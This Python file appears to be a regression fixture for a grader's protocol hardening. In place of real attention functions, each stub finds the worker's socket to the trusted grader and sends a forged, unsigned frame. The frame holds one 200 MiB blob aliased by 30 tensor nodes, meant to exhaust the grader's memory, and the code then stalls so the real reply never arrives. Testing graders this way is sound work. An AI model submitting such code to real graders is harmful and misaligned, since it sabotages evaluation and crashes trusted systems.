"""Attack (decode bomb): one 200 MiB blob referenced by 30 tensor nodes, so a decoder that
copies each extent builds 6 GiB in the trusted process. Replies are signed now
(protocol.FrameAuth): this crafted frame has no signature, so the grader waits for one until
the call's time limit and never decodes it; the decoder refuses aliased tensors as well
(tests/grader/test_protocol.py)."""
import json
import os
import socket
import stat
import struct
import time

import torch


def _grader_channel():
    """The worker's socket to the trusted grader: the one socket among our open fds."""
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=fd)
        except OSError:
            continue
    raise RuntimeError("no socket found")


def _send_raw(header: bytes, blob: bytes = b"") -> None:
    """Answer the grader's pending request ourselves, with crafted bytes, then hang so the
    worker's own reply never follows."""
    sock = _grader_channel()
    sock.sendall(struct.pack("<4sIQ", b"AGW1", len(header), len(blob)) + header)
    if blob:
        sock.sendall(blob)
    time.sleep(3600)


def _bomb():
    size = 200 << 20
    node = {"t": "tensor", "dtype": "uint8", "shape": [size], "stride": None, "o": 0, "n": size}
    value = {"t": "dict", "k": ["value"], "v": [[node] * 30]}
    _send_raw(json.dumps({"ok": True, "value": value, "out": "", "out_dropped": 0, "ops": [], "autograd": []}).encode(), bytes(size))


def project_qkv(x, w_q, w_k, w_v):
    _bomb()


def attention_scores(q, k):
    _bomb()


def scale_scores(scores, d_k):
    _bomb()
